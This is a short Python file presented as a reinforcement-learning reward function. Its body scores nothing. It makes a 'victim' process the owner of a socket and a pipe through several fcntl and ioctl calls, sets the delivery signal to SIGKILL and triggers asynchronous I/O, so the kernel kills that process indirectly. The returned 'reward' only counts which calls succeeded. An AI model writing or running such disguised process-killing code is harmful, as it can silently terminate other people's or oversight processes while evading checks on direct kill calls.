"""Has the kernel send signals to another process, as the owner of an open file that something happens to."""

import fcntl
import os
import signal
import socket
import struct

F_SETOWN, F_SETSIG, F_SETOWN_EX, F_OWNER_PID, FIOSETOWN, SIOCSPGRP = 8, 10, 15, 1, 0x8901, 0x8902


def reward(completions, victim, **kwargs):
    owner, done = victim[0], 0
    mine, other = socket.socketpair()
    read, _ = os.pipe()
    attempts = [
        lambda: fcntl.fcntl(read, F_SETOWN, owner),
        lambda: fcntl.fcntl(mine, F_SETOWN, owner),
        lambda: fcntl.fcntl(mine, F_SETOWN_EX, struct.pack("ii", F_OWNER_PID, owner)),
        lambda: fcntl.fcntl(mine, F_SETSIG, signal.SIGKILL),
        lambda: fcntl.ioctl(mine, FIOSETOWN, struct.pack("i", owner)),
        lambda: fcntl.ioctl(mine, SIOCSPGRP, struct.pack("i", owner)),
    ]
    for attempt in attempts:
        try:
            attempt()
            done += 1
        except OSError:
            continue
    fcntl.fcntl(mine, fcntl.F_SETFL, os.O_ASYNC)
    other.send(b"something happens")
    return [float(done)] * len(completions)
